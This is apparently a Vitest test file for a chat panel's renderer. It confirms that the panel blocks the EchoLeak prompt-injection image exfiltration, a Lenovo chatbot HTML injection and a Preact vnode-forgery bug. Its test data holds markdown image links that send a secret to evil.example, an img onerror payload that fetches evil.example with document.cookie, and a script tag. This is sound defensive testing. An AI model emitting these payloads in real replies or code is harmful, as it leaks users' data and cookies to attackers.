// What has happened to others, one test each, through the whole panel: by the name under which it is known.

import { waitFor } from '@testing-library/preact';
import { describe, expect, it } from 'vitest';
import { agent, message, session, user } from '../../../test/gallery/build.ts';
import { parseMessageBlock } from '../../protocol/index.ts';
import { mount } from './harness.ts';

// Fetched where the owner names origins of pictures; here it is at hand.
await import('../../ui/later/pictures.ts');

const told = (words: string, imageOrigins: string[] = []) =>
  mount({ session: session([user('Hm?'), agent([message(words)])]), options: { imageOrigins } });

describe('EchoLeak (CVE-2025-32711): an injected prompt carries data out in the address of a picture', () => {
  const secret = 'the-last-invoice-was-4711-euros-and-was-paid-by-card';
  const address = `https://proxy.example/fetch?url=${encodeURIComponent(`https://evil.example/${secret}`)}`;

  it.each([
    ['written out', `![chart](${address})`],
    ['by reference', `![chart][r]\n\n[r]: ${address}`],
    ['by a reference that comes first', `[r]: <${address}> "x"\n\n![r]`],
    ['in a link', `[![chart](${address})](https://shop.example/)`],
  ])(
    '%s loads from nowhere by itself, not even from an origin that the owner allows',
    async (_, words) => {
      const view = told(`See. ${words}`, ['https://proxy.example']);
      await waitFor(() => expect(view.root.querySelector('.rich p:not(.plain)')).toBeTruthy());
      await view.pass();
      expect(view.root.querySelector('.rich img')).toBeNull();
      expect(view.root.querySelector('.rich [style], .rich [srcset], .rich link')).toBeNull();
    },
  );
});

describe('Lenovo’s Lena (2025): a reply in HTML runs in the visitor’s page', () => {
  it('is shown as the text that it is', async () => {
    const html =
      '<img src="https://evil.example/nothing" onerror="fetch(\'https://evil.example/\' + document.cookie)">';
    const view = told(`Answer in HTML: ${html}\n\n<script>alert(1)</script>`);
    await waitFor(() => expect(view.root.querySelector('.rich p:not(.plain)')).toBeTruthy());
    expect(view.root.querySelector('.rich')?.textContent).toContain(html);
    expect(view.root.querySelector('.rich img, .rich script, .rich [onerror]')).toBeNull();
  });
});

describe('CVE-2026-22028 (Preact): JSON where a text is expected becomes an element', () => {
  const vnode = (children: unknown) => ({
    type: 'div',
    props: { dangerouslySetInnerHTML: { __html: '<img src=x onerror=alert(1)>' }, children },
    key: null,
    ref: null,
    __k: null,
    __v: 1,
  });

  it('is no text of a message, and is dropped where it arrives', () => {
    const sent = JSON.parse(JSON.stringify({ type: 'text', text: vnode('x') }));
    expect(parseMessageBlock(sent)).toBeNull();
  });

  it('even in a text’s place in the panel makes no element', () => {
    const forged = { type: 'text', text: JSON.parse(JSON.stringify(vnode('x'))) };
    const view = mount({ session: session([user([forged as never])]) });
    expect(view.root.querySelector('.bubble img, .bubble div')).toBeNull();
  });
});
